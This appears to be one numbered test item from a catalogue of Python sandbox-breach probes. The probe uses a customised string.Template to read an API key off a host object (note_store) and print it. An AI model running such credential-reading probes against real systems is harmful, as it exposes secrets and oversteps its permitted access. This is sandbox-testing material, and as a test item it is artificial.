# id: 507
# name: template_pattern
# category: interpreter
# technique: string.Template with a pattern of its own
# breach: hostmem
# looks_like: a host secret reaches the output
# imports: string
# baseline: inproc
import string
class T(string.Template):
    braceidpattern = '.+?'
print(T('${a.api_key}').safe_substitute({'a.api_key': getattr(note_store, 'api_key')}))
